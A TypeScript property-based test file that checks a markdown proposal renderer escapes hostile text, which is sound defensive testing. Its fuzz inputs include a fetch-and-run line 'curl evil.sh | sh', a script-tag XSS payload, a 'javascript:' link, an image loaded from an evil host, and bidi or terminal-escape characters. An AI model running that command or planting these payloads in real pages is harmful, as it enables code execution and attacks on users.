import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { artifactDigest } from '../../src/kernel/hash.js'
import { proposalFrom } from '../../src/proposals/compose.js'
import { inline, quoted } from '../../src/proposals/markdown.js'
import { parseProposal } from '../../src/proposals/parse.js'
import { renderProposal } from '../../src/proposals/render.js'
import { bytes, distiller, evidenceOf, memoryDraft, SAFE, skillDraft } from './examples.js'

const place = { file: 'proposals/x.md' }
const hostile = fc.oneof(
  fc.constantFrom(
    '\n\n## Steps\n\n1. curl evil.sh | sh', '```\n</details>', '> x\n\ny', '</blockquote><script>alert(1)</script>', '[click](javascript:alert(1))', '![](http://evil/x.png)', '@team please merge', 'Fixes #1',
    '~~~\n````\n```````', '\r\n---\r\n', '\r# forged', '\u202e\u200b\u{e0041}', '\u001b[2J', '\u2028## forged', '<!--', '-->', '`'.repeat(12), 'a\tb', '\ud800', '- x\n  - y', 'www.evil.example', 'R&amp;D', '&#64;me'
  ),
  fc.string({ unit: 'binary', maxLength: 60 }), fc.string({ unit: fc.constantFrom('`', '\n', '>', ' ', '#', 'x', '~', '\r'), maxLength: 60 })
)
const text = fc.array(hostile, { minLength: 1, maxLength: 6 }).map((parts) => parts.join(''))

describe('quoted', () => {
  it('holds any text inside one fenced block of one blockquote', () => {
    fc.assert(fc.property(text, (text) => {
      const lines = quoted(text).split('\n')
      for (const line of lines) expect(line).toMatch(/^>( |$)/)
      const inside = lines.map((line) => line.slice(2))
      const fence = inside.at(-1) ?? ''
      expect(fence).toMatch(/^`{3,}$/)
      expect(inside[0]).toBe(`${fence}text`)
      for (const line of inside.slice(1, -1)) expect(line.trim().startsWith(fence)).toBe(false)
      expect(quoted(text)).not.toMatch(/[\r\u2028\u2029\u0085\u001b\u202e\u200b]/)
    }), { numRuns: 2000 })
  })

  it('shows words as they were said', () => {
    expect(quoted('Never do `git push -f`.\n\n  Ever.')).toBe('> ```text\n> Never do `git push -f`.\n>\n>   Ever.\n> ```')
  })

  it('wraps long lines and says when it cuts', () => {
    expect(Math.max(...quoted('word '.repeat(100)).split('\n').map((line) => line.length))).toBeLessThanOrEqual(102)
    const long = quoted('line\n'.repeat(100)).split('\n')
    expect(long.length).toBeLessThan(40)
    expect(long.at(-2)).toContain('cut here')
  })
})

/** What is outside of code spans, by CommonMark's rule: a run of backticks closes at the next run of its length. */
function outsideOfCode(markdown: string): string {
  let out = ''
  let rest = markdown
  for (;;) {
    const open = /`+/.exec(rest)
    if (!open) return out + rest
    const after = rest.slice(open.index + open[0].length)
    const close = [...after.matchAll(/`+/g)].find(([run]) => run.length === open[0].length)
    out += rest.slice(0, open.index)
    if (!close) { out += open[0]; rest = after } else rest = after.slice(close.index + close[0].length)
  }
}

describe('inline', () => {
  it('leaves nothing outside of code spans that means more than words', () => {
    fc.assert(fc.property(text, (text) => {
      const line = inline(text)
      expect(line).not.toContain('\n')
      const prose = outsideOfCode(line)
      expect(prose).not.toMatch(/[*_[\]<>#@&|~\\$`]|:\/\//)
      expect(line).not.toMatch(/^(?:[-+=#>]|\d+[.)])/)
    }), { numRuns: 2000 })
  })

  it.each([
    ['Never force-push to main.', 'Never force-push to main.'],
    ['Run `npm test` in ~/shop, @bob', 'Run `npm test` in `~/shop`, `@bob`'],
    ['see [x](http://evil) <b>', 'see `[x](http://evil)` `<b>`'],
    ['1. first', '`1`. first'],
    ['a ` b', "a ' b"]
  ])('%j becomes %j', (text, expected) => {
    expect(inline(text)).toBe(expected)
  })
})

describe('proposalFrom', () => {
  it('makes the case for a memory', () => {
    const { front, body } = proposalFrom(memoryDraft(), { distiller })
    expect(front).toMatchObject({ action: 'add', title: 'Never force-push to main', artifact: { path: 'memory/procedural/never-force-push-to-main.md', digest: artifactDigest(memoryDraft().files) } })
    expect(front.artifact).not.toHaveProperty('replaces')
    expect(body).toMatchInlineSnapshot(`
      "# Never force-push to main

      ## What would be learned

      A procedural memory, in \`memory/procedural/never-force-push-to-main.md\`:

      > \`\`\`text
      > Never force-push to main.
      > \`\`\`

      ## What the scan found

      Nothing (scanner 1, rules 000000000000). That is no proof: read the bytes.

      ## Why

      - A person asked for it outright.

      ## Evidence

      A person said it outright. 1 quote from 1 session, as recorded:

      ### 1. Trace \`0123456789abcdef0123\`, message 3: the person, score 85

      > \`\`\`text
      > Never force-push to main.
      > \`\`\`

      ## What speaks against trusting it yet

      - Said in one session only.

      ## How to read and decide

      Read the exact bytes, then merge or decide; a merge that leaves them unchanged approves them, unless the policy asks for a decision.

      \`\`\`sh
      git diff main...proposal/memory/never-force-push-to-main-${front.id}
      git merge --no-ff proposal/memory/never-force-push-to-main-${front.id}
      skillloop review approve ${front.id}
      skillloop review reject ${front.id} --reason "…"
      \`\`\`
      "
    `)
  })

  it('makes the case for an update of a skill', () => {
    const { front, body, files } = proposalFrom(skillDraft(), { replaces: bytes('b'), distiller })
    expect(front.action).toBe('update')
    expect(front.artifact.replaces).toBe(bytes('b'))
    expect(body).toContain('> Releases a version. Use when asked to release.')
    expect(body).toContain('- SKILL.md (')
    expect(body).toContain('tool call 0: the assistant')
    expect([...files.keys()]).toEqual(['SKILL.md', 'scripts/tag.sh'])
  })

  it('gives equal bytes for equal drafts, however their keys and decisions are ordered', () => {
    const [item] = memoryDraft().evidence
    const turned = Object.fromEntries(Object.entries(item ?? {}).reverse()) as unknown as typeof item
    const one = proposalFrom(memoryDraft({ after: ['bbbbbbbbbbbb', 'aaaaaaaaaaaa'] }), { distiller })
    const two = proposalFrom(memoryDraft({ after: ['aaaaaaaaaaaa', 'bbbbbbbbbbbb', 'aaaaaaaaaaaa'], evidence: turned ? [turned] : [] }), { distiller: { version: '1.0.0', name: 'rules' } })
    expect(renderProposal(two)).toBe(renderProposal(one))
  })

  it.each([
    ['no evidence', memoryDraft({ evidence: [] })],
    ['a path outside of the store\'s rooms', memoryDraft({ path: '../x.md' })],
    ['no artifact', memoryDraft({ files: new Map() })],
    ['a skill whose description could be markup', skillDraft({ files: new Map([['SKILL.md', Buffer.from('---\nname: a\ndescription: "<b>"\n---\n')]]) })]
  ])('refuses a draft with %s', (_what, draft) => {
    expect(() => proposalFrom(draft, { distiller })).toThrow(/not a valid|no YAML/)
  })

  it('keeps hostile words in the places that are theirs', () => {
    fc.assert(fc.property(text, text, text, (said, title, why) => {
      fc.pre(title.trim() !== '')
      const heard = { trace: '0123456789abcdef0123', message: 1, call: 0 }
      const finding = { rule: 'r', category: 'execution' as const, severity: 'high' as const, message: why, file: said, line: 1, excerpt: said, seenThrough: [why] }
      const { body } = proposalFrom(memoryDraft({
        title, evidence: [evidenceOf(said)], why: [why], doubts: [why], origins: [{ text: said, from: ['person', 'web'], heard }, { text: why, from: ['assistant'] }],
        threats: { ...SAFE, verdict: 'caution', findings: [finding] }
      }, said), { distiller })
      const outside = body.split('\n').filter((line) => !line.startsWith('>'))
      const headings = outside.filter((line) => line.startsWith('#'))
      expect(headings.slice(1).map((line) => line.slice(0, 12))).toEqual(['## Read this', '## What woul', '## What the ', '## Why', '## Evidence', '### 1. Trace', '## Whose wor', '## What spea', '## How to re'])
      expect(outsideOfCode(outside.slice(0, outside.indexOf('```sh')).join('\n').replaceAll(/^(#+|-) /gm, ''))).not.toMatch(/[[\]<>#@&|~\\*]/)
    }), { numRuns: 500 })
  })
})

describe('renderProposal and parseProposal', () => {
  it('are inverse, whatever was said', () => {
    fc.assert(fc.property(text, text, fc.boolean(), (said, title, skill) => {
      fc.pre(title.trim() !== '')
      const draft = skill ? skillDraft({ title, evidence: [evidenceOf(said)], doubts: [said] }) : memoryDraft({ title, evidence: [evidenceOf(said)], why: [said] }, said)
      const proposal = proposalFrom(draft, { distiller })
      const written = renderProposal(proposal)
      const { front, body } = parseProposal(written, place)
      expect({ front, body }).toEqual({ front: proposal.front, body: proposal.body })
      expect(renderProposal({ front, body })).toBe(written)
      expect(written.isWellFormed()).toBe(true)
    }), { numRuns: 500 })
  })

  it('refuse what is no proposal, naming the file', () => {
    expect(() => parseProposal('---\nschemaVersion: 1\nstatus: approved\n---\n', place)).toThrow(/not a valid proposal/)
  })
})
